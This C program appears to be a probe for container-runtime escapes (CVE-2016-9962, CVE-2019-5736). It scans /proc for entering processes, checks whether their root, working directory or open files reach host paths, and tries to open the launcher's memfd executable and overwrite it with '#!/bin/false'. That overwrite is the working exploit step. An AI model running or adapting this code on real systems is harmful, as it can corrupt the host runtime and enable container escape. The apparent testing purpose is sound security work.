// Looks at every process that it can see, again and again, and tells what it gets hold of: the root, the directory, the
// program or an open file of a process that is just coming in from outside (CVE-2016-9962, CVE-2019-5736).
// usage: watch-proc MARKER SECONDS: MARKER is a path that exists on the host only.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static unsigned long looks, files;

static void told(const char *what, const char *path) {
  printf("%s %s\n", what, path);
  fflush(stdout);
}

static void look_at_root(const char *process, const char *entry, const char *marker) {
  char path[256];
  struct stat status;
  snprintf(path, sizeof path, "/proc/%s/%s%s", process, entry, marker);
  if (stat(path, &status) == 0) told("ROOT", path);
}

// Upwards from a directory that is open: its root is not ours.
static void look_at_directory(const char *process, const char *entry, const char *marker) {
  char path[512], up[256] = "";
  struct stat status;
  for (int depth = 0; depth < 8; depth++) {
    snprintf(path, sizeof path, "/proc/%s/%s/%s%s", process, entry, up, marker + 1);
    if (stat(path, &status) == 0) told("DIRECTORY", path);
    strcat(up, "../");
  }
}

static void look_at_exe(const char *process) {
  char path[64];
  struct stat status;
  snprintf(path, sizeof path, "/proc/%s/exe", process);
  if (stat(path, &status) != 0 || status.st_nlink != 0) return;
  // A program without a name: the launcher's memory file. The attack holds it open and writes once it runs no more.
  int held = open(path, O_RDONLY | O_CLOEXEC), writer = -1;
  if (held < 0) return;
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  for (int i = 0; i < 20000 && writer < 0; i++) writer = open(path, O_WRONLY | O_CLOEXEC);
  told("LAUNCHER", process);
  if (writer >= 0 && (write(writer, "#!/bin/false\n", 13) > 0 || ftruncate(writer, 0) == 0)) told("OVERWRITTEN", process);
  if (writer >= 0) close(writer);
  close(held);
}

static void look_at_files(const char *process, const char *marker) {
  char path[64], entry[64];
  snprintf(path, sizeof path, "/proc/%s/fd", process);
  DIR *directory = opendir(path);
  if (!directory) return;
  for (struct dirent *file; (file = readdir(directory)); ) {
    if (file->d_name[0] == '.') continue;
    files++;
    snprintf(entry, sizeof entry, "fd/%s", file->d_name);
    look_at_directory(process, entry, marker);
  }
  closedir(directory);
}

int main(int count, char **words) {
  const char *marker = count > 1 ? words[1] : "/none";
  time_t end = time(0) + (count > 2 ? atoi(words[2]) : 5);
  char self[16];
  snprintf(self, sizeof self, "%d", getpid());
  told("WATCHING", self);
  while (time(0) < end) {
    DIR *processes = opendir("/proc");
    for (struct dirent *process; (process = readdir(processes)); ) {
      if (process->d_name[0] < '0' || process->d_name[0] > '9') continue;
      if (strcmp(process->d_name, self) == 0 || strcmp(process->d_name, "1") == 0) continue;
      looks++;
      look_at_root(process->d_name, "root", marker);
      look_at_directory(process->d_name, "cwd", marker);
      look_at_exe(process->d_name);
      look_at_files(process->d_name, marker);
    }
    closedir(processes);
  }
  printf("DONE looks %lu files %lu\n", looks, files);

}
